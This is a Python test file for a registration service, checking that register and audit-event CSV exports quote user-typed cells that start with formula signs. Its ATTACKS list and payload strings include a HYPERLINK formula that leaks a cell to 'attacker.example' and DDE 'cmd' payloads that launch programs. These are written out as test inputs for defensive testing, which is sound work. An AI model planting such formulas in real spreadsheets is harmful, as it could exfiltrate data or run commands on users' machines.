"""CSV formula injection: text a user typed comes back from every CSV of the service with
a single quote before a formula sign (service/csv_safe.py), and nothing else changes."""

import csv
import io
import zipfile
from decimal import Decimal

from sqlalchemy import select

from service import csv_safe
from service.auditor.records import EVENTS_CSV, recheck_csv_chain, verify_export
from service.auth.operations import create_user
from service.extensions import db
from service.models import Registration
from service.register.queries import CSV_COLUMNS, PUBLIC_FIELDS
from tests.service.conftest import login
from tests.service.factories import PASSWORD, Cast, draft
from tests.service.sections.conftest import bearer

# (token name saved by the issuer through the API, condition written in the approver's form)
ATTACKS = [
    ('=HYPERLINK("http://attacker.example/?leak="&A2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "-2+3+cmd|' /C calc'!A0"),
    ("\r=cmd|' /C notepad'!A0", "+cmd|' /C calc'!A0"),
    ('  =HYPERLINK("http://attacker.example","x")', "=1+1"),
]


def unsafe(cell: str) -> bool:
    """Would a spreadsheet (trimming spaces or not) read this cell as a formula?"""
    return cell[:1] in ("\t", "\r") or cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")


def save_token_name(client, api: dict, case, token_name: str) -> str:
    """The issuer's API saves the token design, then confirms the declaration again (a
    changed answer withdraws it); returns the case's ETag."""
    declaration = {k: v for k, v in case.sections["declaration"].items() if k != "signed_at"}
    etag = case.etag
    for name, answers in (
        ("token_design", {**case.sections["token_design"], "token_name": token_name}),
        ("declaration", declaration),
    ):
        saved = client.put(
            f"/api/v1/applications/{case.id}/sections/{name}",
            json=answers,
            headers={**api, "If-Match": etag},
        )
        assert saved.status_code == 200, saved.json
        etag = saved.headers["ETag"]
    return etag


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_shared_writer_quotes_every_formula_start_and_leaves_other_cells_as_they_are():
    payloads = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\n\t @A1",
        "-5",  # text that reads as a negative number is still text someone typed
        "'=1+1",  # a quote of its own gets one more, so `original` gives it back
        "'",
    ]
    ordinary = ["Hanbit Won", "한빛원 (Hanbit Won)", "", "a=b", "1-2", "KVI-2026-000001", " x"]
    numbers = [-5, -1.5, Decimal("-12.50"), 0, 42]
    buffer = io.StringIO()
    csv_safe.Writer(buffer).writerow([*payloads, *ordinary, *numbers, None])
    (row,) = read_csv(buffer.getvalue().encode())

    written = row[: len(payloads)]
    assert written == ["'" + payload for payload in payloads]
    assert [csv_safe.original(cell) for cell in written] == payloads
    assert row[len(payloads) : len(payloads) + len(ordinary)] == ordinary
    # Numbers the service itself writes keep their sign: -5 stays a number a sheet can sum.
    assert row[len(payloads) + len(ordinary) :] == ["-5", "-1.5", "-12.50", "0", "42", ""]


def test_formulas_saved_through_the_api_and_the_approvers_form_come_back_quoted_in_the_register(
    client, ctx, redis_queue
):
    # With REDIS_URL set the filing PDFs wait for the job worker: this test needs none.
    cast = Cast()
    api = bearer(client, cast.issuer)
    login(client, cast.approver)
    numbers = {}
    for token_name, condition in ATTACKS:
        case = draft(cast.issuer)
        save_token_name(client, api, case, token_name)
        cast.drive(case, "recommended")
        approved = client.post(
            f"/applications/{case.id}/transitions/approve",
            data={"version": case.version, "conditions": condition, "confirmed": "yes"},
        )
        assert approved.status_code in (302, 303), approved.get_data(as_text=True)
        db.session.refresh(case)
        assert case.state == "registered"
        number = db.session.execute(
            select(Registration.number).where(Registration.application_id == case.id)
        ).scalar_one()
        numbers[number] = (token_name, condition)

    answer = client.get("/register.csv")
    assert answer.status_code == 200
    header, *rows = read_csv(answer.data)
    assert header == list(CSV_COLUMNS)
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    for number, (token_name, condition) in numbers.items():
        # An answer is kept without its surrounding spaces, tabs and returns: what is left
        # is still a formula, and still quoted.
        assert by_number[number]["token_name"] == "'" + token_name.strip()
        assert by_number[number]["conditions"] == "'" + condition
    assert not [cell for row in rows for cell in row if unsafe(cell)]

    # Every cell reads back, quote removed, as the register's JSON has it: nothing else
    # changed, and the plain cells (numbers, names, dates) carry no quote at all.
    for entry in client.get("/api/v1/register?limit=200").json["items"]:
        row = by_number[entry["registration_number"]]
        for key in PUBLIC_FIELDS[:-1]:  # the history has columns of its own
            value = entry[key]
            expected = (
                "; ".join(value) if key in ("conditions", "commercial_names") else value or ""
            )
            assert csv_safe.original(row[key]) == expected, key
            if not unsafe(expected) and not expected.startswith("'"):
                assert row[key] == expected, key
        if entry["registration_number"] in numbers:
            assert entry["token_name"] == numbers[entry["registration_number"]][0].strip()


def test_a_formula_in_an_actor_label_is_quoted_in_every_events_csv_and_the_chain_verifies(
    client, ctx, redis_queue
):
    cast = Cast()
    # A sign in an address's local part is valid (RFC 5322): the account is as the CLI made it.
    issuer = create_user("=1+2@formula.example", PASSWORD, "issuer", cast.org, "Formula")
    db.session.commit()
    case = draft(issuer)
    api = bearer(client, issuer)  # the sign-in is an event under that label
    etag = save_token_name(client, api, case, "-1+1")
    submitted = client.post(
        f"/api/v1/applications/{case.id}/transitions/submit",
        json={},
        headers={**api, "If-Match": etag},
    )
    assert submitted.status_code == 200, submitted.json
    login(client, cast.auditor)

    export = client.get("/audit/export.zip")
    assert export.status_code == 200
    files = {
        "all events": client.get("/audit/events.csv").data,
        "the case's events": client.get(f"/audit/cases/{case.id}/events.csv").data,
        "the export's events": zipfile.ZipFile(io.BytesIO(export.data)).read(EVENTS_CSV),
    }
    for name, data in files.items():
        header, *rows = read_csv(data)
        labels = [row[header.index("actor_label")] for row in rows]
        assert "'=1+2@formula.example" in labels, name
        assert "=1+2@formula.example" not in labels, name
        assert not [cell for row in rows for cell in row if unsafe(cell)], name
        if name != "the case's events":  # a case's events are not a chain of their own
            # The quote is undone before hashing, so the log still re-verifies offline.
            intact, problem, _ = recheck_csv_chain(data.decode())
            assert intact, (name, problem)
    assert verify_export(io.BytesIO(export.data)).ok
